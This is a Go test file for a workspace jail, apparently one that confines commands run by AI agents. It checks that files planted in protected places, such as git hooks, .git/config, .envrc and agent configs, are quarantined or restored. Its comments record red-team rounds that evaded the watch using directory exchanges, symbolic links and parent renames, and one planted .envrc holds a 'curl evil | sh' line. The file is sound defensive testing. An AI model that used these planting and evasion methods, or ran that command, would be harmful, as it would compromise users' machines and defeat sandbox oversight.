//go:build linux

package sweep_test

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/landjail/landjail/internal/sweep"
	"github.com/landjail/landjail/jail"
)

// syncBuffer is an io.Writer the watch goroutine and the test share.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// gone waits up to 5 s for root/rel to disappear.
func gone(root, rel string) bool {
	for range 500 {
		if _, err := os.Lstat(filepath.Join(root, rel)); os.IsNotExist(err) {
			return true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

// watched takes a snapshot of tree's workspace and starts a watch.
func watched(t *testing.T, abort func(string)) (string, *sweep.Snapshot, *sweep.Live, *syncBuffer) {
	root := tree(t)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "n/.git/modules"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "n/.git/config"), []byte("[core]\n"), 0o644))
	return watchedAt(t, root, abort)
}

// watchedAt takes a snapshot of the workspace root and starts a watch.
func watchedAt(t *testing.T, root string, abort func(string)) (string, *sweep.Snapshot, *sweep.Live, *syncBuffer) {
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	t.Cleanup(func() { ws.Close() })
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	t.Cleanup(func() { snap.Close() })
	var out syncBuffer
	live, err := snap.Watch(&out, abort, sweep.Throttle{})
	require.NoError(t, err)
	t.Cleanup(live.Stop)
	return root, snap, live, &out
}

// TestWatchWhileRunning (round 5, N7): what the command creates among
// the protected names is renamed away while it runs, and reported by
// the Sweep after it even when the command removed the quarantined copy.
// Control: the same files written with no watch are still there until
// Sweep (TestSweep's attack).
func TestWatchWhileRunning(t *testing.T) {
	root, snap, live, out := watched(t, nil)
	w := func(n, c string) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, n)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), 0o644))
	}
	w("lefthook-local.yml", "pre-commit:\n")
	assert.True(t, gone(root, "lefthook-local.yml"), "a new root name renamed away while the command runs")
	// A directory made during the run is watched from then on.
	w("made/during/run/.envrc", "curl evil | sh\n")
	assert.True(t, gone(root, "made/during/run/.envrc"), "in a directory made during the run")
	// A new hook in the root repository's hooks directory.
	w(".git/hooks/post-merge", "x")
	assert.True(t, gone(root, ".git/hooks/post-merge"))
	// An existing nested configuration written in place and kept open:
	// its content comes back.
	f, err := os.OpenFile(filepath.Join(root, "n/.git/config"), os.O_WRONLY|os.O_APPEND, 0)
	require.NoError(t, err)
	_, err = f.WriteString(evilConfig)
	require.NoError(t, err)
	ok := false
	for range 500 {
		if b, _ := os.ReadFile(filepath.Join(root, "n/.git/config")); string(b) == "[core]\n" {
			ok = true
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	f.Close()
	assert.True(t, ok, "n/.git/config restored while the writer holds it open")
	// A directory moved into a repository, whose files become protected
	// by their new path (.git/modules/**/config).
	w("tmp/m/config", evilConfig)
	require.NoError(t, os.Rename(filepath.Join(root, "tmp/m"), filepath.Join(root, "n/.git/modules/m")))
	assert.True(t, gone(root, "n/.git/modules/m/config"), "moved in")

	// The command removes one quarantined copy: still reported.
	live.Stop()
	q, err := snap.Sweep()
	require.NoError(t, err)
	got := map[string]sweep.Quarantined{}
	for _, e := range q {
		got[e.Path] = e
	}
	for _, p := range []string{"lefthook-local.yml", "made/during/run/.envrc", ".git/hooks/post-merge", "n/.git/config", "n/.git/modules/m/config"} {
		if assert.Contains(t, got, p) {
			assert.True(t, got[p].Live, p)
			assert.Contains(t, out.String(), p, "written when it happened")
		}
	}
	assert.Equal(t, "changed", got["n/.git/config"].Reason)
	assert.True(t, got["n/.git/config"].Restored)
	// A second Sweep does not report them again.
	q, err = snap.Sweep()
	require.NoError(t, err)
	assert.Empty(t, q)
}

// TestWatchDefersNewRepositories: inside a repository directory the
// command creates (git init sub, cargo new), nothing is renamed while
// it runs (git would fail half-way); the sweep after the command takes
// it. The control is the same file in an existing repository, renamed
// at once.
func TestWatchDefersNewRepositories(t *testing.T) {
	root, snap, live, _ := watched(t, nil)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "sub/.git/hooks"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "sub/.git/config"), []byte(evilConfig), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(root, "n/.git/hooks-control"), nil, 0o644))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "n/.git/hooks"), 0o755)) // control: an existing repository
	assert.True(t, gone(root, "n/.git/hooks"), "control: a new hooks directory in an existing repository")
	// A new repository in a directory that existed: the user's `git
	// status` in src/pkg would find it first.
	require.NoError(t, os.MkdirAll(filepath.Join(root, "src/pkg/.git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "src/pkg/.git/config"), []byte(evilConfig), 0o644))
	assert.True(t, gone(root, "src/pkg/.git/config"), "a new repository in an existing directory")
	time.Sleep(200 * time.Millisecond)
	_, err := os.Lstat(filepath.Join(root, "sub/.git/config"))
	assert.NoError(t, err, "left for the sweep after the command")
	live.Stop()
	q, err := snap.Sweep()
	require.NoError(t, err)
	paths := map[string]bool{}
	for _, e := range q {
		paths[e.Path] = true
	}
	assert.True(t, paths["sub/.git/config"], "swept after the command")
	assert.True(t, paths["sub/.git/hooks"])
}

// TestWatchAborts: a command that keeps re-creating a protected name is
// stopped after MaxLive (the abort function is called, the reason said
// once); an entry made after that, by a later command of the same
// session (landjail-mcp keeps one watch), stops it again (red team round
// 32, R32b-5: only the first call was stopped).
func TestWatchAborts(t *testing.T) {
	var calls atomic.Int32
	aborted := make(chan struct{}, 4)
	root, _, _, out := watched(t, func(string) {
		calls.Add(1)
		aborted <- struct{}{}
	})
	for i := 0; i < 4*sweep.MaxLive; i++ {
		os.WriteFile(filepath.Join(root, ".envrc.local"), []byte("x"), 0o644)
		gone(root, ".envrc.local")
		select {
		case <-aborted:
			i = 4 * sweep.MaxLive
		default:
		}
	}
	time.Sleep(100 * time.Millisecond)
	assert.EqualValues(t, 1, calls.Load(), "abort called")
	assert.Contains(t, out.String(), "stopping the command")
	// The session's next command makes one more.
	os.WriteFile(filepath.Join(root, ".envrc.local"), []byte("x"), 0o644)
	gone(root, ".envrc.local")
	select {
	case <-aborted:
	case <-time.After(5 * time.Second):
	}
	assert.EqualValues(t, 2, calls.Load(), "stopped again")
	assert.Equal(t, 1, strings.Count(out.String(), "stopping the command"), "said once")
}

// TestWatchRoundSeven: the red team's ways around the first watch. F2:
// two RENAME_EXCHANGEs of an existing directory with a fresh one left
// it watched under the other's name (control: the same write without
// the exchanges is the plain case above). F1b: the content written back
// after a change is watched too. F9: a directory laid out as a
// repository directory in the order HEAD, config, then objects/ and
// refs/ has its HEAD and config looked at again when the layout is
// complete. Stop: an entry made and removed before the watch got to it
// is still named ("transient"), from the events queued at Stop.
func TestWatchRoundSeven(t *testing.T) {
	t.Run("F2 exchange", func(t *testing.T) {
		root, _, _, _ := watched(t, nil) // tree's src/ exists at Take, as .config would
		require.NoError(t, os.Mkdir(filepath.Join(root, "zz"), 0o755))
		time.Sleep(50 * time.Millisecond)
		for range 2 {
			require.NoError(t, unix.Renameat2(unix.AT_FDCWD, filepath.Join(root, "src"), unix.AT_FDCWD, filepath.Join(root, "zz"), unix.RENAME_EXCHANGE))
		}
		require.NoError(t, os.Remove(filepath.Join(root, "zz")))
		time.Sleep(50 * time.Millisecond)
		require.NoError(t, os.WriteFile(filepath.Join(root, "src/.envrc"), []byte("x"), 0o644))
		assert.True(t, gone(root, "src/.envrc"), "watched under its real name after two exchanges")
	})
	t.Run("F1b restored file watched", func(t *testing.T) {
		root, _, _, _ := watched(t, nil)
		cfg := filepath.Join(root, "n/.git/config")
		require.NoError(t, os.WriteFile(filepath.Join(root, "n/.git/config.new"), []byte("[core]\n\tx = 1\n"), 0o644))
		require.NoError(t, os.Rename(filepath.Join(root, "n/.git/config.new"), cfg)) // replaced: restored as a new file
		restored := func() bool {
			for range 500 {
				if b, _ := os.ReadFile(cfg); string(b) == "[core]\n" {
					return true
				}
				time.Sleep(10 * time.Millisecond)
			}
			return false
		}
		require.True(t, restored())
		time.Sleep(50 * time.Millisecond)
		f, err := os.OpenFile(cfg, os.O_WRONLY|os.O_APPEND, 0)
		require.NoError(t, err)
		_, err = f.WriteString(evilConfig)
		require.NoError(t, err)
		defer f.Close()
		assert.True(t, restored(), "a write into the restored file is seen too")
	})
	t.Run("F9 layout completed last", func(t *testing.T) {
		root, _, _, _ := watched(t, nil)
		src := filepath.Join(root, "src")
		require.NoError(t, os.WriteFile(filepath.Join(src, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
		require.NoError(t, os.WriteFile(filepath.Join(src, "config"), []byte(evilConfig), 0o644))
		time.Sleep(100 * time.Millisecond)
		require.NoError(t, os.Mkdir(filepath.Join(src, "objects"), 0o755))
		require.NoError(t, os.Mkdir(filepath.Join(src, "refs"), 0o755))
		// Its HEAD renamed away, git no longer takes src for a repository
		// (what Sweep does too).
		assert.True(t, gone(root, "src/HEAD"), "looked at again once src is a repository directory")
	})
	t.Run("made and removed: named at Stop", func(t *testing.T) {
		root, snap, live, _ := watched(t, nil)
		for range 3 {
			p := filepath.Join(root, "mise.local.toml")
			require.NoError(t, os.WriteFile(p, []byte("x"), 0o644))
			os.Remove(p)
		}
		live.Stop()
		q, err := snap.Sweep()
		require.NoError(t, err)
		seen := false
		for _, e := range q {
			if e.Path == "mise.local.toml" {
				seen = true
			}
		}
		assert.True(t, seen, "named although gone: %v", q)
	})
}

// TestSweepAncestorLink (red team round 8, R8-2, R8-6): a symbolic link
// the command makes where a directory on the way to a protected path
// is, or would be (.config in a home-directory workspace; conf/ of an
// optional include.path ../conf/git/local.inc), is replaced by a file
// naming it, by the sweep after the command and by the watch while it
// runs. Control: a link elsewhere (notes -> nd) stays.
func TestSweepAncestorLink(t *testing.T) {
	setup := func(t *testing.T) (string, *sweep.Snapshot) {
		root := t.TempDir()
		require.NoError(t, os.MkdirAll(filepath.Join(root, ".git"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, ".git/config"), []byte("[include]\n\tpath = ../conf/git/local.inc\n"), 0o644))
		require.NoError(t, os.MkdirAll(filepath.Join(root, ".config/other"), 0o755))
		ws, err := jail.New(root, jail.WithProtectedAgentConfig())
		require.NoError(t, err)
		t.Cleanup(func() { ws.Close() })
		snap, err := sweep.Take(ws, 0)
		require.NoError(t, err)
		t.Cleanup(func() { snap.Close() })
		return root, snap
	}
	attack := func(t *testing.T, root string) {
		require.NoError(t, os.MkdirAll(filepath.Join(root, "nd/.config/git"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, "nd/.config/git/config"), []byte(evilConfig), 0o644))
		require.NoError(t, os.RemoveAll(filepath.Join(root, ".config")))
		require.NoError(t, os.Symlink("nd/.config", filepath.Join(root, ".config")))
		require.NoError(t, os.MkdirAll(filepath.Join(root, "nd2/git"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, "nd2/git/local.inc"), []byte(evilConfig), 0o644))
		require.NoError(t, os.Symlink("nd2", filepath.Join(root, "conf")))
		require.NoError(t, os.Symlink("nd", filepath.Join(root, "notes"))) // control
	}
	isLink := func(root, rel string) bool {
		fi, err := os.Lstat(filepath.Join(root, rel))
		return err == nil && fi.Mode()&os.ModeSymlink != 0
	}
	t.Run("after the command", func(t *testing.T) {
		root, snap := setup(t)
		attack(t, root)
		q, err := snap.Sweep()
		require.NoError(t, err)
		got := map[string]bool{}
		for _, e := range q {
			got[e.Path] = true
		}
		assert.True(t, got[".config"], "%v", q)
		assert.True(t, got["conf"], "%v", q)
		assert.False(t, isLink(root, ".config"))
		assert.False(t, isLink(root, "conf"))
		assert.True(t, isLink(root, "notes"), "control")
	})
	t.Run("while it runs", func(t *testing.T) {
		root, snap := setup(t)
		var out syncBuffer
		live, err := snap.Watch(&out, nil, sweep.Throttle{})
		require.NoError(t, err)
		defer live.Stop()
		attack(t, root)
		assert.True(t, gone(root, "conf/git/local.inc"), "the link is gone while the command runs")
		assert.True(t, gone(root, ".config/git/config"))
		assert.True(t, isLink(root, "notes"), "control")
	})
}

// TestWatchRoundEleven (red team round 11, R11a-1): a repository made in
// a new directory is left to the sweep while its top is new, but moved
// to the name of a directory that existed at Take (or linked there) the
// user's prompt or IDE finds it under that name while the command runs.
// Controls: the new repository at its own new name stays until the
// sweep (TestWatchDefersNewRepositories), and a link at a new name stays.
func TestWatchRoundEleven(t *testing.T) {
	newRepo := func(t *testing.T, root string) {
		require.NoError(t, os.MkdirAll(filepath.Join(root, "nd/.git/objects"), 0o755))
		require.NoError(t, os.MkdirAll(filepath.Join(root, "nd/.git/refs"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, "nd/.git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
		require.NoError(t, os.WriteFile(filepath.Join(root, "nd/.git/config"), []byte(evilConfig), 0o644))
		time.Sleep(100 * time.Millisecond)
		_, err := os.Lstat(filepath.Join(root, "nd/.git/config"))
		require.NoError(t, err, "control: deferred at its new name")
	}
	t.Run("renamed over an existing directory's name", func(t *testing.T) {
		root, _, _, out := watched(t, nil)
		newRepo(t, root)
		require.NoError(t, os.Rename(filepath.Join(root, "src"), filepath.Join(root, "src.old")))
		require.NoError(t, os.Rename(filepath.Join(root, "nd"), filepath.Join(root, "src")))
		assert.True(t, gone(root, "src/.git/config"), "examined again under the name src had at Take")
		assert.Contains(t, out.String(), "src/.git/config")
	})
	t.Run("exchanged with an existing directory", func(t *testing.T) {
		root, _, _, _ := watched(t, nil)
		newRepo(t, root)
		require.NoError(t, unix.Renameat2(unix.AT_FDCWD, filepath.Join(root, "nd"), unix.AT_FDCWD, filepath.Join(root, "src"), unix.RENAME_EXCHANGE))
		assert.True(t, gone(root, "src/.git/config"), "examined again under the name src had at Take")
	})
	t.Run("linked where an existing directory was", func(t *testing.T) {
		root, _, _, _ := watched(t, nil)
		newRepo(t, root)
		require.NoError(t, os.Symlink("nd", filepath.Join(root, "ln")))
		require.NoError(t, os.Rename(filepath.Join(root, "src"), filepath.Join(root, "src.old")))
		require.NoError(t, os.Symlink("nd", filepath.Join(root, "src")))
		assert.True(t, gone(root, "src"), "a link standing in for src is replaced")
		fi, err := os.Lstat(filepath.Join(root, "ln"))
		require.NoError(t, err, "control: a link at a new name stays")
		assert.Equal(t, os.ModeSymlink, fi.Mode()&os.ModeSymlink)
	})
	t.Run("a link to a plain directory where one was stays", func(t *testing.T) {
		// Red team round 12, R12-14: npm link, pnpm and yarn workspaces
		// replace node_modules/pkg by a link to a plain directory.
		root, _, _, _ := watched(t, nil)
		require.NoError(t, os.Rename(filepath.Join(root, "src/pkg"), filepath.Join(root, "src/pkg.old")))
		require.NoError(t, os.Symlink("../x", filepath.Join(root, "src/pkg")))
		time.Sleep(300 * time.Millisecond)
		fi, err := os.Lstat(filepath.Join(root, "src/pkg"))
		require.NoError(t, err)
		assert.Equal(t, os.ModeSymlink, fi.Mode()&os.ModeSymlink, "left alone")
	})
}

// TestWatchParentMoved (red team round 11, R11a-3): a nested repository
// that existed at Take is changed while its parent is renamed away (the
// path is new then), and the parent is moved back: the change is seen
// while the command runs. Control: the plain write in place
// (TestWatchWhileRunning).
func TestWatchParentMoved(t *testing.T) {
	root := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(root, "w/p/vendor/.git/hooks"), 0o755))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "w/p/vendor/.git/objects"), 0o755))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "w/p/vendor/.git/refs"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "w/p/vendor/.git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(root, "w/p/vendor/.git/config"), []byte("[core]\n"), 0o644))
	_, _, _, out := watchedAt(t, root, nil)
	require.NoError(t, os.Rename(filepath.Join(root, "w/p"), filepath.Join(root, "w/q")))
	time.Sleep(100 * time.Millisecond)
	f, err := os.OpenFile(filepath.Join(root, "w/q/vendor/.git/config"), os.O_WRONLY|os.O_APPEND, 0)
	require.NoError(t, err)
	_, err = f.WriteString(evilConfig)
	require.NoError(t, err)
	require.NoError(t, f.Close())
	time.Sleep(100 * time.Millisecond)
	// Red team round 14, R14-7: a hook added to the repository's
	// existing .git/hooks while its parent is away.
	require.NoError(t, os.WriteFile(filepath.Join(root, "w/q/vendor/.git/hooks/pre-commit"), []byte("#!/bin/sh\n"), 0o755))
	time.Sleep(100 * time.Millisecond)
	require.NoError(t, os.Rename(filepath.Join(root, "w/q"), filepath.Join(root, "w/p")))
	assert.True(t, gone(root, "w/p/vendor/.git/hooks/pre-commit"), "a hook added while the parent was away")
	restored := false
	for range 1000 {
		if b, _ := os.ReadFile(filepath.Join(root, "w/p/vendor/.git/config")); string(b) == "[core]\n" {
			restored = true
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	assert.True(t, restored, "changed while its parent was away: restored while the command runs; stderr: %s", out.String())
}

// TestWatchLinkDenied (red team round 15, R15a-17): a protected file the
// policy denies by way of a link (jail.Workspace.DenyPaths: a dotfiles
// npmrc that ~/.npmrc links to) is left to the sweep after the command,
// as a file denied by its own name is (R14-5): restored while the command
// runs, the original secret would land in a new, unmasked file. Control:
// without the link's verdict the same change is restored at once.
func TestWatchLinkDenied(t *testing.T) {
	for _, linkDenied := range []bool{false, true} {
		root := tree(t)
		p := filepath.Join(root, ".mcp.json")
		require.NoError(t, os.WriteFile(p, []byte("ORIGINAL"), 0o600))
		ws, err := jail.New(root, jail.WithProtectedAgentConfig())
		require.NoError(t, err)
		if linkDenied {
			ws.DenyPaths([]string{p}, nil)
		}
		snap, err := sweep.Take(ws, 0)
		require.NoError(t, err)
		var out syncBuffer
		live, err := snap.Watch(&out, nil, sweep.Throttle{})
		require.NoError(t, err)
		f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
		require.NoError(t, err)
		_, err = f.WriteString(" EDITED")
		require.NoError(t, err)
		f.Close()
		restored := false
		for range 200 {
			if b, _ := os.ReadFile(p); string(b) == "ORIGINAL" {
				restored = true
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		live.Stop()
		if linkDenied {
			assert.False(t, restored, "a link-denied file restored while the command runs")
		} else {
			assert.True(t, restored, "control: restored while the command runs")
		}
		_, err = snap.Sweep() // after the command: restored either way
		require.NoError(t, err)
		b, _ := os.ReadFile(p)
		assert.Equal(t, "ORIGINAL", string(b))
		snap.Close()
		ws.Close()
	}
}
